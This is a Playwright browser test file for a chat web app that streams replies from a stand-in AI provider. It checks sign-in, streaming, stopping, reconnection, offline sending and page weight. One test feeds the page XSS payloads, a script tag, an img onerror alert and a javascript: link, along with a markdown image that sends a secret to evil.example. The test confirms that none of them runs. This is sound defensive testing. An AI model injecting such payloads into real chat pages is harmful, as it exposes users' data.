"""The chat page in a real Chromium, against a live server and the stand-in provider."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.site import DESKTOP, PHONE, TEXT, Site, ask, wait_until_over
from tests.factories import PASSWORD
from tests.provider import SECRET_MARKER, Answer, Provider

SIZES = pytest.mark.parametrize("size", [PHONE, DESKTOP], ids=["phone", "desktop"])
# Being offline ends no connection that there is.
CUT = """
    const real = window.fetch;
    window.fetch = async (...asked) => {
        const answer = await real(...asked);
        window.fetch = real;
        const reader = answer.body.getReader();
        const body = new ReadableStream({
            start(rest) {
                window.cut = () => rest.error(new TypeError("cut"));
            },
            async pull(rest) {
                const { value } = await reader.read();
                rest.enqueue(value);
            },
        });
        return new Response(body, { headers: answer.headers });
    };
"""
LISTENS = """
    window.WebSocket = class extends WebSocket {
        constructor(address) {
            super(address);
            this.addEventListener("open", () => (window.listens = true));
        }
    };
"""
WORDS = " ".join(f"w{number}" for number in range(60))


def test_a_person_signs_in_asks_and_watches_the_reply_grow(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(text="**Bold** words " + "and more " * 40, held_after=20))
    with site.page(signed_in=False) as page:
        page.goto("/")
        expect(page.get_by_label("E-mail")).to_be_focused()
        page.keyboard.type(site.email)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_label("Message", exact=True)).to_be_focused()
        page.wait_for_load_state()  # without scripts Enter begins a line
        page.get_by_label("Message", exact=True).fill("Tell me\tmore")
        page.keyboard.press("Enter")
        expect(page.locator(TEXT).locator("strong")).to_have_text("Bold")
        expect(page.get_by_role("button", name="Stop")).to_be_visible()
        grown = page.locator(TEXT).inner_text()
        provider.let_go()
        wait_until_over(page)
        assert len(page.locator(TEXT).inner_text()) > len(grown)
        assert "/c/" in page.url
        listed = page.get_by_role("navigation", name="Conversations")
        expect(listed.get_by_role("link", name="Tell me more")).to_be_visible()
        expect(page.get_by_label("Message", exact=True)).to_have_value("")
        expect(page.locator("[data-usage]")).to_contain_text("tokens")


def test_what_grew_is_what_a_reload_shows(site: Site, provider: Provider) -> None:
    reply = (
        "# T\n\n- a\n\n- b\n\n```py\nx = 1\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\nEnd"
    )
    provider.enqueue(Answer(pieces=tuple(reply)))
    with site.page() as page:
        page.goto("/")
        ask(page, "Show me")
        wait_until_over(page)
        grown = page.locator(TEXT).inner_text()
        assert "x = 1" in grown
        page.reload()
        copy = page.locator(TEXT).get_by_role("button", name="Copy", exact=True)
        expect(copy).to_be_visible()
        assert page.locator(TEXT).inner_text() == grown


def test_what_is_selected_stays_while_the_text_grows(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(tokens=80, pace=30))
    with site.page() as page:
        page.goto("/")
        ask(page, "Count")
        expect(page.locator(TEXT)).to_contain_text("w5")
        selected = (
            page.locator(TEXT)
            .locator("p")
            .evaluate(
                "(one) => { getSelection().setBaseAndExtent(one.firstChild, 0,"
                " one.firstChild, 8); return getSelection().toString(); }"
            )
        )
        expect(page.locator(TEXT)).to_contain_text("w60")
        assert page.evaluate("getSelection().toString()") == selected != ""


def test_stop_keeps_what_was_written_and_marks_it(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(tokens=2_000, pace=20))
    with site.page() as page:
        page.goto("/")
        ask(page, "A long one")
        expect(page.locator(TEXT)).to_contain_text("w3")
        page.get_by_role("button", name="Stop").press("Enter")
        expect(page.get_by_text("Stopped.")).to_be_visible()
        expect(page.get_by_label("Message", exact=True)).to_be_focused()
        page.reload()
        expect(page.get_by_text("Stopped.")).to_be_visible()
        expect(page.locator(TEXT)).to_contain_text("w3")


def test_a_failure_is_told_in_our_words_and_can_be_tried_again(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(status=401, error_message=SECRET_MARKER))
    with site.page() as page:
        page.goto("/")
        ask(page, "Will it work?")
        wait_until_over(page, "The reply is not complete")
        expect(page.get_by_text("The provider refused our API key")).to_be_visible()
        assert SECRET_MARKER not in page.content()
        provider.enqueue(Answer(text="Yes, now."))
        page.locator(".mark").get_by_role("button", name="Try again").click()
        wait_until_over(page)
        expect(page.locator(".mark:visible")).to_have_count(0)
        expect(page.locator(TEXT)).to_have_text("Yes, now.")


def test_a_stream_that_breaks_off_is_never_shown_as_complete(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(tokens=40, fault="close", fault_after=20))
    with site.page() as page:
        page.goto("/")
        ask(page, "Go on")
        wait_until_over(page, "The reply is not complete")
        expect(page.get_by_text("stopped in the middle")).to_be_visible()
        expect(page.locator(TEXT)).to_contain_text("w19")


@SIZES
def test_a_reload_in_mid_reply_joins_it_without_losing_a_word(
    site: Site, provider: Provider, size: dict[str, Any]
) -> None:
    provider.enqueue(Answer(tokens=60, pace=40, held_after=20))
    with site.page(**size) as page:
        page.goto("/")
        ask(page, "Count")
        expect(page.locator(TEXT)).to_contain_text("w5")
        page.reload()
        expect(page.get_by_role("button", name="Stop")).to_be_visible()
        provider.let_go()
        wait_until_over(page)
        expect(page.locator(TEXT)).to_have_text(WORDS)


@SIZES
def test_a_dropped_connection_is_told_and_taken_up_again(
    site: Site, provider: Provider, size: dict[str, Any]
) -> None:
    provider.enqueue(Answer(tokens=60, pace=40, held_after=20))
    with site.page(**size) as page:
        page.add_init_script(CUT)
        page.goto("/")
        ask(page, "Count")
        expect(page.locator(TEXT)).to_contain_text("w2")
        # All that the page fetches beside the reply is there.
        expect(page.get_by_role("link", name="Share", exact=True)).to_be_attached()
        page.context.set_offline(True)
        page.evaluate("cut()")
        lost = "The connection is lost. Reconnecting…"
        expect(page.get_by_role("status")).to_have_text(lost)
        page.context.set_offline(False)
        provider.let_go()
        wait_until_over(page)
        expect(page.locator(TEXT)).to_have_text(WORDS)


@SIZES
def test_a_second_tab_follows_live_and_stops_both(
    site: Site, provider: Provider, size: dict[str, Any]
) -> None:
    provider.enqueue(Answer(text="Hello."), Answer(tokens=2_000, pace=30))
    with site.page(**size) as page:
        page.goto("/")
        ask(page, "Hi")
        wait_until_over(page)
        other = page.context.new_page()
        other.add_init_script(LISTENS)
        other.goto(page.url)
        expect(other.locator(TEXT)).to_have_text("Hello.")
        other.wait_for_function("() => window.listens")
        ask(page, "Count")
        expect(other.locator(".user")).to_have_count(2)
        expect(other.locator(TEXT)).to_contain_text("w5")
        other.get_by_role("button", name="Stop").click()
        for tab in (page, other):
            expect(tab.locator(".mark.stopped")).to_be_visible()
        # Of the tab behind only what is there can be asked, and not what is drawn.
        written = other.locator(TEXT).text_content() or ""
        assert "w5" in written
        expect(page.locator(TEXT)).to_have_text(written)


@SIZES
def test_a_message_sent_offline_waits_and_goes_by_itself(
    site: Site, provider: Provider, size: dict[str, Any]
) -> None:
    provider.enqueue(Answer(text="Kept."))
    with site.page(**size) as page:
        page.route("**/api/v1/chat*", lambda route: route.abort())
        page.goto("/")
        ask(page, "Do not lose me")
        unsent = page.locator(".unsent")
        expect(unsent).to_contain_text("The server cannot be reached.")
        expect(page.get_by_label("Message", exact=True)).to_have_value("")
        page.reload()
        expect(unsent).to_be_visible()
        page.unroute("**/api/v1/chat*")
        page.evaluate("dispatchEvent(new Event('online'))")
        wait_until_over(page)
        expect(unsent).to_have_count(0)
        expect(page.locator(TEXT)).to_have_text("Kept.")
        assert len(provider.requests) == 1


def test_a_page_whose_scripts_do_not_come_any_more_keeps_the_text(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(text="Kept."))
    with site.page() as page:
        page.route("**/chat/sending*.js", lambda route: route.abort())
        page.goto("/")
        ask(page, "Do not lose me")
        expect(page.get_by_role("alert")).to_have_text("The server cannot be reached.")
        field = page.get_by_label("Message", exact=True)
        expect(field).to_have_value("Do not lose me")
        page.unroute("**/chat/sending*.js")
        field.press("Enter")
        wait_until_over(page)
        expect(page.locator(TEXT)).to_have_text("Kept.")
        expect(page.get_by_role("alert")).to_be_hidden()


def test_a_draft_is_not_shown_to_the_next_person_in_the_tab(site: Site) -> None:
    with site.page() as page:
        field = page.get_by_label("Message", exact=True)
        page.goto("/")
        field.fill("Only mine")
        page.context.add_cookies(site.strangers_cookies)
        page.goto("/")
        expect(page.locator(".who .email")).to_contain_text("stranger@")
        expect(field).to_have_value("")
        page.context.add_cookies(site.own_cookies)
        page.goto("/")
        expect(field).to_have_value("Only mine")


def test_a_message_whose_answer_was_lost_is_sent_again_only_once(
    site: Site, provider: Provider
) -> None:
    lose_first_answer = """
        const real = window.fetch;
        window.fetch = async (...asked) => {
            const answer = await real(...asked);
            window.fetch = real;
            throw new TypeError(`lost ${answer.status}`);
        };
    """
    provider.enqueue(Answer(text="Once."))
    with site.page() as page:
        page.add_init_script(lose_first_answer)
        page.goto("/")
        ask(page, "Pay the bill")
        wait_until_over(page)
        expect(page.locator(TEXT)).to_have_text("Once.")
        expect(page.locator(".user")).to_have_count(1)
        page.goto("/")
        links = page.get_by_role("link", name="Pay the bill")
        expect(links).to_have_count(1)
        assert len(provider.requests) == 1


def test_the_view_follows_the_text_unless_the_reader_scrolled_up(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(text="A line.\n\n" * 200, pace=60, held_after=200))
    with site.page(viewport={"width": 800, "height": 500}) as page:
        page.goto("/")
        ask(page, "Scroll")
        while page.evaluate("scrollY") <= 300:
            page.wait_for_timeout(50)
        to_end = page.get_by_role("button", name="Go to the newest text")
        expect(to_end).to_be_hidden()
        assert page.evaluate("scrollY") > 0
        page.mouse.move(400, 200)
        page.mouse.wheel(0, -200)
        expect(to_end).to_be_visible()
        # The wheel's own movement takes a moment, in which the reply goes on.
        page.wait_for_function(
            "() => new Promise((done) => { const at = scrollY;"
            " setTimeout(() => done(scrollY === at), 300); })"
        )
        # Where the first line stands: what is above it may change its height.
        first = "(one) => one.getBoundingClientRect().top"
        held = page.locator(TEXT).locator("p").first.evaluate(first)
        expect(page.get_by_role("button", name="Stop")).to_be_visible()
        provider.let_go()
        wait_until_over(page)
        now = page.locator(TEXT).locator("p").first.evaluate(first)
        assert abs(now - held) < 100
        to_end.click()
        expect(to_end).to_be_hidden()


def test_a_reply_can_neither_run_nor_load_anything(
    site: Site, provider: Provider
) -> None:
    reply = (
        "<script>document.title = 'taken'</script>\n\n<img src=x onerror=alert(1)> "
        "![pixel](https://evil.example/pixel.png?q=secret) [go](javascript:alert(1))"
    )
    provider.enqueue(Answer(text=reply))
    with site.page() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        page.goto("/")
        ask(page, "Attack")
        wait_until_over(page)
        expect(page.locator(TEXT)).to_contain_text("<script>")
        assert page.locator(TEXT).locator("img, script").count() == 0
        assert all(url.startswith(site.url) for url in asked)
        assert page.title().startswith("Attack")


def test_without_scripts_one_can_sign_in_ask_read_stop_and_archive(
    site: Site, provider: Provider
) -> None:
    with site.page(signed_in=False, java_script_enabled=False) as page:
        page.goto("/")
        page.get_by_label("E-mail").fill(site.email)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        provider.enqueue(Answer(text="*Plain* answer."))
        page.get_by_label("Message", exact=True).fill("Plain question\nof two lines")
        page.get_by_role("button", name="Send").click()
        # The page reloads itself until the reply is there.
        expect(page.locator(TEXT).locator("em")).to_have_text("Plain")
        provider.enqueue(Answer(tokens=2_000, pace=20))
        page.get_by_label("Message", exact=True).fill("Another")
        page.get_by_role("button", name="Send").click()
        # Until a click does not fall into the moment when the page reloads itself.
        while page.get_by_role("button", name="Stop").is_visible():
            page.get_by_role("button", name="Stop").click()
            page.wait_for_load_state()
        expect(page.get_by_text("Stopped.")).to_be_visible()
        page.get_by_role("button", name="Archive").click()
        expect(page.get_by_text("Your conversations will be listed")).to_be_visible()


def test_the_page_is_light(site: Site) -> None:
    # The owner's, who has no turns here: news of the member's would be counted too.
    with site.page(cookies=site.owners_cookies) as page:
        session = page.context.new_cdp_session(page)
        session.send("Network.enable")
        arrived: list[float] = []
        session.on(
            "Network.loadingFinished",
            lambda event: arrived.append(event["encodedDataLength"]),
        )
        page.goto("/", wait_until="networkidle")
        scripts = page.evaluate(
            "performance.getEntriesByType('resource')"
            ".filter((entry) => entry.name.endsWith('.js'))"
            ".map((entry) => entry.decodedBodySize)"
        )
        assert len(arrived) <= 10
        assert sum(arrived) <= 60_000
        assert 0 < sum(scripts) <= 100_000
